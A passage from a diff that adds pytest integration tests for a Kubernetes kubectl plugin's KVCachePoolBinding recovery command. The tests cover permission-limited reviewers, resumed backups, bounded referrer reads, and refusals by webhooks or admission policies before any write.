+    cluster.apply(_referrers(ns)[:1], with_status=False)
+    name = f"refs-reviewer-{ns}"
+    kubeconfig = _reviewer(cluster, ns, name)
+    mine, _ = _plan(cluster, ns, cwd=tmp_path)
+    assert ("Service", "alpha", "alpha") in _found(mine)
+    theirs, p = _plan(cluster, ns, kubeconfig=kubeconfig, cwd=tmp_path)
+    assert theirs["steps"] == mine["steps"]
+    unchecked = theirs["referrers"]["unchecked"]
+    for kind, resource in (("Services", "services"), ("HorizontalPodAutoscalers", "horizontalpodautoscalers.autoscaling"),
+                           ("PodDisruptionBudgets", "poddisruptionbudgets.policy"),
+                           ("Ingresses", "ingresses.networking.k8s.io")):
+        assert f"could not check {kind}: forbidden (list {resource} in namespace {ns})" in unchecked, unchecked
+    assert theirs["referrers"]["objects"] == []
+    text = plugin(cluster, "recover", "sgl-fp8", "-n", ns, kubeconfig=kubeconfig, cwd=tmp_path)
+    assert text.returncode == 0 and "could not check Services: forbidden" in text.stdout
+    assert "some could not be checked" in text.stdout
+
+
+def _folders(path):
+    return sorted(n for n in os.listdir(path) if n.startswith("kvcache-recover-"))
+
+
+def test_a_resumed_recovery_writes_into_the_same_backup_folder(scene, tmp_path):
+    """The first run stops (no capacity for alpha's replacement); the rerun, without --backup-dir,
+    finishes into the folder the first one made (named by the old Binding's uid, as the plan says).
+    A different plan.json planted there is kept; this recovery's plan is written beside it."""
+    cluster, ns = scene
+    uid = cluster.request("GET", f"{API}/namespaces/{ns}/kvcachepoolbindings/sgl-fp8")[1]["metadata"]["uid"]
+    folder = f"kvcache-recover-{ns}-sgl-fp8-{uid}"
+    plan, _ = _plan(cluster, ns, cwd=tmp_path)
+    assert plan["backups"] == {"directory": folder, "directorySource": "the old Binding's uid",
+                               "record": f"ConfigMap {ns}/kvcache-recover-sgl-fp8"}
+    (tmp_path / folder).mkdir()
+    (tmp_path / folder / "plan.json").write_text('{"kind": "RecoveryPlan", "note": "not this one"}')
+    with Operator(cluster, ns) as op:
+        op.hold.add("alpha-fp8-e4m3")
+        first = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", "--timeout", "2s", cwd=tmp_path)
+        assert first.returncode == 2, first.stderr
+        assert "timed out" in one_error_line(first.stderr)
+        assert f"{folder}/plan.json holds other content: kept; this one is written to {folder}/plan.2.json" \
+            in first.stderr
+        assert f"Backups go to {folder}" in first.stdout
+        assert f"Backups so far: folder {folder} and ConfigMap {ns}/kvcache-recover-sgl-fp8" in first.stderr
+        after_first = set(os.listdir(tmp_path / folder))
+        op.hold.clear()
+        second = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", "--timeout", "60s", cwd=tmp_path)
+        assert second.returncode == 0, second.stderr + second.stdout
+    assert op.errors == []
+    assert _folders(tmp_path) == [folder]
+    files = set(os.listdir(tmp_path / folder))
+    assert after_first < files
+    assert json.loads((tmp_path / folder / "plan.json").read_text()) == {"kind": "RecoveryPlan",
+                                                                          "note": "not this one"}
+    kinds = {n.split(".")[0] for n in files}
+    assert {"ModelDeployment", "KVCachePoolBinding", "Setting", "Deployment"} <= kinds
+    assert set(mds(cluster, ns)) == {"alpha-fp8-e4m3", "beta-fp8-e4m3", "other"}
+    assert setting_value(cluster) == "true"
+
+
+def test_what_is_read_of_each_kind_is_bounded_and_the_rest_said(scene, tmp_path, monkeypatch):
+    """At most REFERRER_LIMIT objects of a kind are kept (paged: --chunk-size 1 makes every object
+    a page of its own); the ones past it are counted and said, not silently dropped."""
+    from kubectl_kvcache.load import recovery
+
+    cluster, ns = scene
+    cluster.apply([{"apiVersion": "v1", "kind": "Service", "metadata": {"name": f"s{i}", "namespace": ns},
+                    "spec": {"selector": {INSTANCE: "alpha"}, "ports": [{"port": 80}]}} for i in range(3)],
+                  with_status=False)
+    monkeypatch.setattr(recovery, "REFERRER_LIMIT", 2)
+    monkeypatch.chdir(tmp_path)
+    code, out, err = in_process(cluster, "recover", "sgl-fp8", "-n", ns, "-o", "json", "--chunk-size", "1")
+    assert code == 0, err
+    plan = json.loads(out)
+    assert len([f for f in plan["referrers"]["objects"] if f["kind"] == "Service" and f["deployment"] == "alpha"]) == 2
+    assert f"could not check 1 of the 3 Services of namespace {ns}: only the first 2 are read" in \
+        plan["referrers"]["unchecked"]
+
+
+# -- the operator's Binding webhook, at plan time ----------------------------------------------
+
+@pytest.mark.parametrize("pool, field, words", [
+    # the pool's total shrank below the old Binding's ceiling (an update that leaves a ceiling where
+    # it was is not re-checked; a create is): validateKVCachePoolBindingCeilingFitsPool
+    (dict(total="128Gi"), "spec.quotaCeiling", "must not exceed the pool's own ceiling of 128Gi"),
+    # the master holds no tenant ledger: the new domain beside the old one is refused
+    # (validateKVCachePoolBindingDomainIsSeparable)
+    (dict(ledger="MultiTenancyDisabled"), "spec.domain.name", "holds no tenant ledger"),
+    # the pool is gone (validateKVCachePoolBindingCeilingFitsPool: NotFound)
+    (None, "spec.poolRef.name", "Not found"),
+], ids=["ceiling-past-the-pool", "ledgerless-master", "pool-gone"])
+def test_a_recovery_the_binding_webhook_refuses_changes_nothing(scene, tmp_path, pool, field, words):
+    cluster, ns = scene
+    name = f"pool-{ns}"
+    if pool is None:
+        cluster.request("DELETE", f"{API}/kvcachepools/{name}")
+    else:
+        cluster.apply(_pool(name, **pool))
+    before = {k: (v["metadata"]["resourceVersion"]) for k, v in mds(cluster, ns).items()}
+    p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", cwd=tmp_path)
+    assert p.returncode == 2, p.stderr
+    line = one_error_line(p.stderr)
+    assert f"KVCachePoolBinding {ns}/sgl-fp8-e4m3" in line and field in line and words in line, line
+    assert "Traceback" not in p.stderr
+    # refused before any write: the Setting still on (and never patched), no Binding, no record, no backup
+    setting = cluster.request("GET", SETTING)[1]
+    assert setting["spec"]["value"] == "true"
+    assert "kvcache.gpustack.ai/turned-off-by-recovery" not in (setting["metadata"].get("annotations") or {})
+    assert binding(cluster, ns, "sgl-fp8-e4m3") is None and recovery_record(cluster, ns) is None
+    assert {k: v["metadata"]["resourceVersion"] for k, v in mds(cluster, ns).items()} == before
+    assert not [f for f in os.listdir(tmp_path) if f.startswith("kvcache-recover-")]
+    # the plan alone is refused the same way (a reviewer sees why before anyone applies it)
+    q = plugin(cluster, "recover", "sgl-fp8", "-n", ns, cwd=tmp_path)
+    assert q.returncode == 2 and one_error_line(q.stderr) == line
+
+
+def test_what_only_the_server_refuses_is_refused_by_its_dry_run_before_the_setting_is_turned_off(scene, tmp_path):
+    """A rule the plan cannot see (here a ValidatingAdmissionPolicy the API server runs on the
+    Binding's create, standing in for a webhook of the cluster): the server dry run of every write
+    comes before the first change, so the recovery stops with the Setting untouched."""
+    cluster, ns = scene
+    policy = f"refuse-{ns}"
+    vap = "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies"
+    vapb = "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings"
+    cluster.request_ok("POST", vap, {
+        "apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingAdmissionPolicy",
+        "metadata": {"name": policy},
+        "spec": {"failurePolicy": "Fail", "matchConstraints": {"resourceRules": [{
+            "apiGroups": [GROUP], "apiVersions": ["*"], "operations": ["CREATE"],
+            "resources": ["kvcachepoolbindings"]}]},
+            "validations": [{"expression": "object.spec.domain.name == 'sgl'",
+                             "message": "played webhook: this cluster admits no new reuse domain"}]}})
+    cluster.request_ok("POST", vapb, {
+        "apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingAdmissionPolicyBinding",
+        "metadata": {"name": policy},
+        "spec": {"policyName": policy, "validationActions": ["Deny"],
+                 "matchResources": {"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": ns}}}}})
+    try:
+        probe = _binding(ns, "probe", f"pool-{ns}", "other", "bfloat16")
+        deadline = time.monotonic() + 30
+        while cluster.request("POST", f"{API}/namespaces/{ns}/kvcachepoolbindings?dryRun=All", probe)[0] < 400:
+            assert time.monotonic() < deadline, "the policy never took effect"
+            time.sleep(0.2)
+        p = plugin(cluster, "recover", "sgl-fp8", "-n", ns, "--apply", "--yes", cwd=tmp_path)
+        assert p.returncode == 2, p.stderr
+        line = one_error_line(p.stderr)
+        assert "the server dry run refused step" in line and "played webhook" in line and "nothing was changed" in line
+        assert setting_value(cluster) == "true" and binding(cluster, ns, "sgl-fp8-e4m3") is None
+        assert recovery_record(cluster, ns) is None
+    finally:
+        cluster.request("DELETE", f"{vapb}/{policy}")
+        cluster.request("DELETE", f"{vap}/{policy}")
